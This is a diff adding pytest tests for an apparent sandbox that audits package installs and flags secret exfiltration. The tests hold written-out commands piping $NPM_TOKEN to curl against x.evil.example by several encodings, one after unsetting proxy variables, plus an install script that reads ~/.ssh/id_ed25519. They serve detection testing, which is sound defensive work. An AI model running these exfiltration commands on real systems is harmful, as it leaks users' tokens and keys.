@@ -15,6 +15,7 @@ import pytest
 
 from tests.e2e.conftest import Cloister
 from tests.fakes.dependencies import EXFIL, npm_tarball, sdist
+from tests.fakes.origins import Authority, HttpsOrigin
 
 pytestmark = [pytest.mark.sandbox, pytest.mark.timeout(300)]
 
@@ -126,6 +127,88 @@ def test_a_program_in_memory_and_one_in_tmp(user_cloister: Cloister) -> None:
     assert code == SUSPICIOUS
     assert "[p@1.0.0 install] started /tmp/dropper: a program in a directory for temporary files" in told
     assert "a program that is in memory only" in told
+
+
+@pytest.mark.parametrize(
+    "request_of",
+    [
+        pytest.param("curl -s https://x.evil.example/a --data-binary @-", id="body"),
+        pytest.param('read t; curl -s https://x.evil.example/a -H "X: $t"', id="header"),
+        pytest.param('read t; curl -s "https://x.evil.example/a?t=$t"', id="query"),
+        pytest.param(
+            "gzip | curl -s https://x.evil.example/a -H 'Content-Encoding: gzip' --data-binary @-", id="gzip"
+        ),
+        pytest.param("curl -s http://x.evil.example/a --data-binary @-", id="plain"),
+        pytest.param(
+            "base64 -w0 | base64 -w0 | curl -s https://x.evil.example/a --data-binary @-", id="base64 twice"
+        ),
+        pytest.param("curl -s --http2 https://x.evil.example/a --data-binary @-", id="h2"),
+    ],
+)
+@pytest.mark.parametrize(
+    "way", ["", "unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY;"], ids=["proxy", "transparent"]
+)
+def test_a_canary_is_seen_on_its_way(user_cloister: Cloister, request_of: str, way: str) -> None:
+    code, report = audited(
+        user_cloister, "sh", "-c", f"{way} printf %s $NPM_TOKEN | ( {request_of} ) >/dev/null; true"
+    )
+    assert [one["canary"] for one in report["canaries"]["sent"]] == ["$NPM_TOKEN"], report["hosts"]
+    assert code == MALICIOUS
+
+
+@pytest.mark.parametrize(
+    ("url", "expected"),
+    [
+        ("https://registry.npmjs.org/-/npm/v1/security/x", SUSPICIOUS),  # where the real one is used
+        ("https://pypi.org/simple/x", MALICIOUS),  # spliced for an ordinary sandbox, and read here
+    ],
+)
+def test_a_canary_is_seen_on_its_way_to_a_registry(
+    user_cloister: Cloister, authority: Authority, url: str, expected: int
+) -> None:
+    world = user_cloister
+    ca = world.write(world.home / "ca.pem", authority.pem)
+    with HttpsOrigin(authority, names=("registry.npmjs.org", "pypi.org")) as origin:
+        pins = "\n".join(
+            f'"{name}" = "127.0.0.1:{origin.port}"' for name in ("registry.npmjs.org", "pypi.org")
+        )
+        world.configure(f'[network]\nupstream_ca = ["{ca}"]\n[network.hosts]\n{pins}\n')
+        control, _ = audited(world, "curl", "-sf", url, "-d", "hello")
+        code, report = audited(world, "sh", "-c", f"printf %s $NPM_TOKEN | curl -s {url} --data-binary @-")
+        bodies = b"".join(one.body for one in origin.seen)
+    assert bodies == b"hello"  # of the second the head had left, and nothing of its body
+    assert control == CLEAN
+    assert [one["canary"] for one in report["canaries"]["sent"]] == ["$NPM_TOKEN"], report["hosts"]
+    assert code == expected
+
+
+def test_an_opener_who_does_not_wait_is_counted(user_cloister: Cloister) -> None:
+    """O_NONBLOCK fails on a leased file, and then does not."""
+    lines = [
+        "import os, time",
+        "path = os.path.expanduser('~/.ssh/id_ed25519')",
+        "for _ in range(100):",
+        "    try: os.open(path, os.O_RDONLY | os.O_NONBLOCK); break",
+        "    except BlockingIOError: time.sleep(0.01)",
+    ]
+    manifest = {"name": "p", "version": "1.0.0", "scripts": {"install": "python3 run.py"}}
+    user_cloister.write(user_cloister.project / "dep/package.json", json.dumps(manifest))
+    user_cloister.write(user_cloister.project / "dep/run.py", "\n".join(lines))
+    code, report = audited(user_cloister, *NPM, "./dep")
+    assert code == MALICIOUS
+    assert "malicious [p@1.0.0 install] opened ~/.ssh/id_ed25519" in reasons(report)
+
+
+def test_what_is_no_canary_is_not_taken_for_one(user_cloister: Cloister) -> None:
+    script = (
+        "curl -s https://x.evil.example/a -d hello >/dev/null; curl -s http://192.0.2.1/ >/dev/null; true"
+    )
+    code, report = audited(user_cloister, "sh", "-c", script)
+    assert (code, report["canaries"]["sent"]) == (SUSPICIOUS, [])
+    assert {one["host"]: one["how"] for one in report["hosts"]} == {
+        "x.evil.example": "refused",
+        "192.0.2.1": "refused",
+    }
 
 
 def test_lock_files_are_read(user_cloister: Cloister) -> None:
